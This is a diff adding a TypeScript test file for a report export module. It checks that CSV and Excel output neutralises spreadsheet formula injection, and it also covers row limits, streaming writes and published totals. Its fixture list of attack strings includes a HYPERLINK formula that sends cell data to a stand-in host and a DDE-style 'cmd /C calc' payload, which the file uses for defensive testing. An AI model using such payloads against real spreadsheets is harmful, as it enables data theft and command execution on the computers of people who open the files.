@@ -1,0 +1,147 @@
+import { inflateRawSync } from 'node:zlib';
+import { parse } from 'csv-parse/sync';
+import { parquetReadObjects } from 'hyparquet';
+import { expect, test } from 'vitest';
+import {
+  type ExportFormat,
+  exportFormats,
+  figuresOf,
+  mediaTypes,
+  published,
+  type Sheet,
+  savedReports,
+  sheetOfFigures,
+  writeSheet,
+} from '../../src/report/index.ts';
+
+async function written(format: ExportFormat, sheet: Sheet): Promise<Buffer> {
+  const pieces: Buffer[] = [];
+  await writeSheet(format, sheet, async (piece) => {
+    pieces.push(Buffer.from(piece));
+  });
+  return Buffer.concat(pieces);
+}
+
+/** What a form may hold in the place of a name. */
+const attacks = [
+  '=HYPERLINK("http://evil.example.org/?"&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A1',
+  '\u200b=1+1',
+];
+const sheetOf = (texts: string[]): Sheet => ({
+  title: 'Attack',
+  columns: [
+    { name: 'name', heading: 'Name', type: 'text' },
+    { name: 'change', heading: 'Change', type: 'number' },
+    { name: 'codes', heading: 'Codes', type: 'list' },
+  ],
+  rows: texts.map((name) => ({ name, change: -3, codes: ['=a', 'b'] })),
+});
+
+test('no text of a form is a formula in a CSV file, and a negative number stays a number', async () => {
+  const rows: string[][] = parse(await written('csv', sheetOf(attacks)), { bom: true, from_line: 2 });
+  expect(rows.map(([name]) => name)).toEqual(attacks.map((attack) => `'${attack}`));
+  expect(rows.map(([, change]) => change)).toEqual(attacks.map(() => '-3'));
+  expect(rows.map(([, , codes]) => codes)).toEqual(attacks.map(() => "'=a; b"));
+});
+
+test('quotes, separators and line ends of a text stay inside its cell', async () => {
+  const text = 'a "b", c\r\n=d;e';
+  const [row] = parse(await written('csv', sheetOf([text])), { bom: true, from_line: 2 }) as string[][];
+  expect(row?.[0]).toBe(text);
+});
+
+test('no cell of a workbook holds a formula, and texts are texts', async () => {
+  const sheet = entryOf(
+    await written('xlsx', sheetOf([...attacks, 'bell\u0007 and \ufffe'])),
+    'xl/worksheets/sheet1.xml',
+  );
+  expect(sheet).not.toMatch(/<f[ >]/);
+  expect(sheet.match(/t="(s|inlineStr)"/g)?.length).toBe(3 + 2 * (attacks.length + 1));
+  expect(sheet).toContain('<v>-3</v>');
+});
+
+test('a workbook has a limit of rows and says so instead of cutting', async () => {
+  function* many() {
+    for (let at = 0; at < 100_001; at += 1) yield { name: 'x', change: at, codes: null };
+  }
+  const exported = await writeSheet('xlsx', { ...sheetOf([]), rows: many() }, async () => {});
+  expect(exported).toEqual({ kind: 'too_many_rows', most: 100_000 });
+});
+
+test('JSON and Parquet hold the same rows as they are', async () => {
+  const sheet = sheetOf(['plain', '=1']);
+  expect(JSON.parse((await written('json', sheet)).toString())).toEqual([
+    { name: 'plain', change: -3, codes: ['=a', 'b'] },
+    { name: '=1', change: -3, codes: ['=a', 'b'] },
+  ]);
+  const bytes = await written('parquet', sheet);
+  const file = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer;
+  expect(await parquetReadObjects({ file })).toEqual([
+    { name: 'plain', change: -3n, codes: ['=a', 'b'] },
+    { name: '=1', change: -3n, codes: ['=a', 'b'] },
+  ]);
+});
+
+test.each(exportFormats)('a table without rows is a %s file all the same', async (format) => {
+  const bytes = await written(format, sheetOf([]));
+  expect(bytes.length).toBeGreaterThan(2);
+  expect(mediaTypes[format]).toMatch(/^(text|application)\//);
+});
+
+test('a large table is written in pieces, one after the other, and none is kept', async () => {
+  let open = 0;
+  let pieces = 0;
+  async function* many() {
+    for (let at = 0; at < 50_000; at += 1) yield { name: `row ${at}`, change: at, codes: ['a'] };
+  }
+  for (const format of ['csv', 'json', 'parquet'] as const) {
+    pieces = 0;
+    const exported = await writeSheet(format, { ...sheetOf([]), rows: many() }, async () => {
+      expect(open).toBe(0);
+      open += 1;
+      await new Promise((resolve) => setImmediate(resolve));
+      open -= 1;
+      pieces += 1;
+    });
+    expect(exported).toEqual({ kind: 'written', rows: 50_000 });
+    expect(pieces).toBeGreaterThan(2);
+  }
+});
+
+test('a published report has texts in its counts throughout, and its totals at the end', async () => {
+  const report = savedReports.find(({ name }) => name === 'received');
+  if (!report) throw new Error('no report');
+  const figures = figuresOf(report, '2026-01-01', '2026-02-28', [
+    { month: '2026-01', referrals: 3, toolkits: 20 },
+    { month: '2026-02', referrals: 9, toolkits: 0 },
+  ]);
+  const rows = JSON.parse((await written('json', sheetOfFigures(published(figures)))).toString());
+  expect(rows.map((row: { month: string }) => row.month)).toEqual(['2026-01', '2026-02', 'Total']);
+  expect(rows[0].referrals).toBe('c');
+  expect(rows[1].toolkits).toBe('0');
+  expect(JSON.parse((await written('json', sheetOfFigures(figures))).toString())[2]).toEqual({
+    month: 'Total',
+    referrals: 12,
+    toolkits: 20,
+    forms: 32,
+  });
+});
+
+/** One file of a zip, found by its local header. */
+function entryOf(zip: Buffer, name: string): string {
+  const at = zip.indexOf(name) - 30;
+  const end = zip.indexOf(Buffer.from('PK\u0001\u0002', 'latin1'));
+  const start = at + 30 + zip.readUInt16LE(at + 26) + zip.readUInt16LE(at + 28);
+  return inflateRawSync(zip.subarray(start, end), { finishFlush: 2 }).toString();
+}
